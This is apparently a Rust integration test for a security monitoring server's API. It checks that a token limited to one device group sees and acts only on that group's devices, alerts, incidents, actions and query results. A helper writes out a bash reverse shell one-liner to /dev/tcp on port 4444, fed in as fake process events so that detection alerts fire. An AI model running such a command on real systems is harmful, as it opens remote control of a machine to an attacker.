//! Device-group scope: an API token limited to one device group sees and acts on that
//! group's devices only — device list and pages, alerts (list, page, triage, bulk),
//! incidents, response actions, hunting and SQL over events — while an unlimited token
//! sees both devices. Something outside the scope answers 404, not 403.

use serde_json::{json, Value};

use crate::harness::{enroll, exec, uplink, wait_until, Api, Fixture};

/// A reverse shell to `ip` (different addresses and users keep the two devices' alerts in
/// separate incidents).
fn shell(ip: &str) -> String {
    format!("bash -i >& /dev/tcp/{ip}/4444 0>&1")
}

fn alert_ids_by_device(api: &Api) -> Vec<(String, String)> {
    let mut v: Vec<(String, String)> = api
        .alerts("")
        .iter()
        .map(|a| {
            (
                a["DeviceId"].as_str().unwrap().to_string(),
                a["AlertId"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    v.sort();
    v
}

fn devices_of(rows: &Value, key: &str) -> Vec<String> {
    let mut d: Vec<String> = rows
        .as_array()
        .unwrap_or_else(|| panic!("rows: {rows}"))
        .iter()
        .map(|r| r[key].as_str().unwrap_or_default().to_string())
        .collect();
    d.sort();
    d.dedup();
    d
}

#[test]
fn a_token_limited_to_a_device_group_sees_and_acts_on_that_group_only() {
    let fx = Fixture::new("dev-east");
    let west = enroll(
        fx.server.grpc,
        &fx.ca,
        &fx.api.token(None),
        "dev-west",
        &fx.dir.path().join("b"),
    )
    .unwrap();
    for (dev, group) in [("dev-east", "east"), ("dev-west", "west")] {
        let (st, v) = fx
            .api
            .patch(&format!("/api/v1/devices/{dev}"), json!({ "group": group }));
        assert_eq!(st, 200, "{v}");
    }
    let up_east = uplink(fx.agent.clone(), &fx.agent_dir(), 64 << 20);
    let up_west = uplink(west, &fx.dir.path().join("b"), 64 << 20);
    up_east.send(vec![exec(
        "/usr/bin/bash",
        &shell("10.0.0.1"),
        "/usr/sbin/nginx",
        "svc-east",
        11,
    )]);
    up_west.send(vec![exec(
        "/usr/bin/bash",
        &shell("10.0.0.2"),
        "/usr/sbin/nginx",
        "svc-west",
        22,
    )]);
    wait_until("an alert on each device", 60, || {
        let by = alert_ids_by_device(&fx.api);
        by.iter().any(|(d, _)| d == "dev-east") && by.iter().any(|(d, _)| d == "dev-west")
    });
    let all = alert_ids_by_device(&fx.api);
    let west_alert = all.iter().find(|(d, _)| d == "dev-west").unwrap().1.clone();
    let east_alert = all.iter().find(|(d, _)| d == "dev-east").unwrap().1.clone();

    let (st, t) = fx.api.post(
        "/api/v1/api-tokens",
        json!({ "name": "east-ops", "role": "security-operator", "device_groups": ["east"] }),
    );
    assert_eq!(st, 200, "{t}");
    let east = Api {
        base: fx.api.base.clone(),
        token: t["Secret"].as_str().unwrap().to_string(),
    };

    // Devices.
    let (st, v) = east.get("/api/v1/devices");
    assert_eq!(st, 200, "{v}");
    assert_eq!(devices_of(&v, "DeviceId"), ["dev-east"]);
    let (st, v) = fx.api.get("/api/v1/devices");
    assert_eq!(st, 200);
    assert_eq!(devices_of(&v, "DeviceId"), ["dev-east", "dev-west"]);
    // The inventory sorts, searches and pages (`api/list.rs`), after the scope.
    let (st, v) = fx.api.get("/api/v1/devices?sort=DeviceId&order=desc");
    assert_eq!(st, 200, "{v}");
    assert_eq!(v[0]["DeviceId"], "dev-west", "{v}");
    let (st, v) = fx.api.get("/api/v1/devices?q=WEST&limit=5");
    assert_eq!(st, 200, "{v}");
    assert_eq!(
        (v["total"].as_u64(), devices_of(&v["items"], "DeviceId")),
        (Some(1), vec!["dev-west".to_string()])
    );
    let (st, v) = east.get("/api/v1/devices?limit=10&offset=0");
    assert_eq!((st, v["total"].as_u64()), (200, Some(1)), "{v}");
    let (st, v) = fx.api.get("/api/v1/devices?colour=red");
    assert_eq!(st, 400, "{v}");
    assert!(v["detail"].as_str().unwrap().contains("colour"), "{v}");
    assert_eq!(east.get("/api/v1/devices/dev-east").0, 200);
    let (st, v) = east.get("/api/v1/devices/dev-west");
    assert_eq!(st, 404, "{v}");

    // Alerts: the list (unpaged and paged), the page, triage, bulk triage, comments.
    assert_eq!(
        alert_ids_by_device(&east),
        all.iter()
            .filter(|(d, _)| d == "dev-east")
            .cloned()
            .collect::<Vec<_>>()
    );
    let (st, page) = east.get("/api/v1/alerts?limit=50&offset=0");
    assert_eq!(st, 200, "{page}");
    assert!(page["total"].as_u64().unwrap() >= 1, "{page}");
    assert_eq!(devices_of(&page["items"], "DeviceId"), ["dev-east"]);
    assert_eq!(east.get(&format!("/api/v1/alerts/{east_alert}")).0, 200);
    assert_eq!(east.get(&format!("/api/v1/alerts/{west_alert}")).0, 404);
    let (st, v) = east.patch(
        &format!("/api/v1/alerts/{west_alert}"),
        json!({ "status": "Resolved" }),
    );
    assert_eq!(st, 404, "{v}");
    let (st, v) = east.post(
        "/api/v1/alerts/bulk",
        json!({ "ids": [east_alert, west_alert], "status": "Resolved" }),
    );
    assert_eq!(st, 404, "{v}");
    let (st, v) = east.post(
        &format!("/api/v1/alerts/{west_alert}/comments"),
        json!({ "comment": "not mine" }),
    );
    assert_eq!(st, 404, "{v}");
    let (_, w) = fx.api.get(&format!("/api/v1/alerts/{west_alert}"));
    assert_eq!(
        w["Status"], "New",
        "the refused triage changed nothing: {w}"
    );
    assert!(w["Comments"].as_array().unwrap().is_empty(), "{w}");

    // Incidents.
    let (st, v) = east.get("/api/v1/incidents");
    assert_eq!(st, 200, "{v}");
    let incidents = v.as_array().unwrap();
    assert!(!incidents.is_empty());
    for i in incidents {
        assert!(
            i["Devices"]
                .as_array()
                .unwrap()
                .iter()
                .any(|d| d == "dev-east"),
            "{i}"
        );
    }
    let (_, w) = fx.api.get(&format!("/api/v1/alerts/{west_alert}"));
    let west_incident = w["IncidentId"].as_str().unwrap();
    let (_, wi) = fx.api.get(&format!("/api/v1/incidents/{west_incident}"));
    assert_eq!(wi["Devices"], json!(["dev-west"]), "{wi}");
    assert_eq!(
        east.get(&format!("/api/v1/incidents/{west_incident}")).0,
        404
    );

    // Response actions and live response.
    let (st, v) = east.post(
        "/api/v1/devices/dev-west/actions",
        json!({ "type": "collect" }),
    );
    assert_eq!(st, 404, "{v}");
    let (st, v) = fx.api.post(
        "/api/v1/devices/dev-west/actions",
        json!({ "type": "collect", "comment": "admin" }),
    );
    assert_eq!(st, 200, "{v}");
    let west_action = v["ActionId"].as_str().unwrap().to_string();
    let (st, v) = east.post(
        "/api/v1/devices/dev-east/actions",
        json!({ "type": "collect" }),
    );
    assert_eq!(st, 200, "{v}");
    let (st, v) = east.get("/api/v1/actions");
    assert_eq!(st, 200, "{v}");
    assert_eq!(devices_of(&v["items"], "DeviceId"), ["dev-east"]);
    assert_eq!(v["total"], 1, "{v}");
    assert_eq!(east.get(&format!("/api/v1/actions/{west_action}")).0, 404);
    assert_eq!(
        east.post(&format!("/api/v1/actions/{west_action}/cancel"), json!({}))
            .0,
        404
    );
    assert_eq!(east.post("/api/v1/devices/dev-west/live", json!({})).0, 404);

    // Hunting and SQL read only the group's rows.
    let (st, v) = east.post(
        "/api/v1/hunt",
        json!({ "query": "DeviceProcessEvents | summarize n = count() by DeviceId" }),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(devices_of(&v["rows"], "DeviceId"), ["dev-east"]);
    let (st, v) = fx.api.post(
        "/api/v1/hunt",
        json!({ "query": "DeviceProcessEvents | summarize n = count() by DeviceId" }),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(devices_of(&v["rows"], "DeviceId"), ["dev-east", "dev-west"]);
    // Columns other than DeviceId only: the filter still applies.
    let (st, v) = east.post(
        "/api/v1/hunt",
        json!({ "query": "DeviceProcessEvents | where ProcessId == 22 | count" }),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["rows"][0]["Count"], 0, "{v}");
    let (st, v) = east.post(
        "/api/v1/events/sql",
        json!({ "sql": "SELECT DISTINCT \"DeviceId\" FROM \"DeviceProcessEvents\"" }),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(devices_of(&v["rows"], "DeviceId"), ["dev-east"]);

    // Fleet-wide changes are refused to a limited principal.
    let (st, v) = east.post(
        "/api/v1/custom-detections",
        json!({ "name": "x", "query": "DeviceProcessEvents | take 1", "schedule": "1h" }),
    );
    assert_eq!(st, 403, "{v}");
    assert!(
        v["detail"].as_str().unwrap().contains("device groups"),
        "{v}"
    );
    let (_, rules) = fx.api.get("/api/v1/rules?limit=1");
    let rule = rules["items"][0]["RuleId"].as_str().unwrap().to_string();
    for (method, path, body) in [
        (
            "PATCH",
            "/api/v1/settings".to_string(),
            json!({ "automation_level": "full" }),
        ),
        ("POST", format!("/api/v1/rules/{rule}/disable"), json!({})),
        (
            "POST",
            "/api/v1/indicators".to_string(),
            json!({ "type": "ip", "value": "203.0.113.7", "action": "block" }),
        ),
        (
            "POST",
            "/api/v1/suppressions".to_string(),
            json!({ "rule_id": rule }),
        ),
    ] {
        let (st, v) = if method == "PATCH" {
            east.patch(&path, body)
        } else {
            east.post(&path, body)
        };
        assert_eq!(st, 403, "{method} {path} → {v}");
        // The role refuses settings first; the others its role allows, its scope refuses.
        let why = if path.ends_with("settings") {
            "permission"
        } else {
            "every device"
        };
        assert!(v["detail"].as_str().unwrap().contains(why), "{v}");
    }
    let (_, s) = fx.api.get("/api/v1/settings");
    assert_eq!(
        s["automation_level"], "semi",
        "the refused change changed nothing: {s}"
    );
    let (_, r) = fx.api.get(&format!("/api/v1/rules?q={rule}"));
    assert_eq!(r[0]["Enabled"], true, "{r}");
}
